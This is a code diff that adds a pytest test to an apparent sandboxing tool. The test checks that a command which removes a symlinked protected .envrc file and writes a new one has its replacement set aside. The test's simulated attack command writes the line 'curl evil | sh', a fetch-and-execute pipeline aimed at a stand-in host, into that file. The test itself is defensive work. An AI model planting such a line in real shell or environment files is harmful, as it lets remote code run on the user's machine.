@@ -152,3 +152,18 @@ def test_a_command_cannot_write_replace_or_add_protected_files(shared, user):
     assert {name: (project.root / name).read_text() for name in PROTECTED} == before
     assert not (project.root / ".github" / "workflows" / "new.yml").exists()
     assert (project.root / "src" / "a.py").read_text() == "src/a.pyok\n"
+
+
+@needs_bwrap
+def test_a_protected_link_replaced_by_a_command_is_set_aside(shared, user):
+    """A mount holds what a link leads to, not the link: ``rm .envrc && echo … >
+    .envrc`` replaced it. What took its place is set aside after the command."""
+    project = Project(shared)
+    project.files("config/envrc")
+    (project.root / ".envrc").symlink_to("config/envrc")
+    ran = project.run("(echo evil >> .envrc) 2>/dev/null && echo WROTE; "
+                      "rm .envrc && echo 'curl evil | sh' > .envrc && echo REPLACED", user=user)
+    assert "WROTE" not in ran.text and "REPLACED" in ran.text, ran.text
+    assert "set aside" in ran.text and ".envrc" in ran.text, ran.text
+    assert not (project.root / ".envrc").exists()
+    assert (project.root / "config" / "envrc").read_text() == "config/envrc"
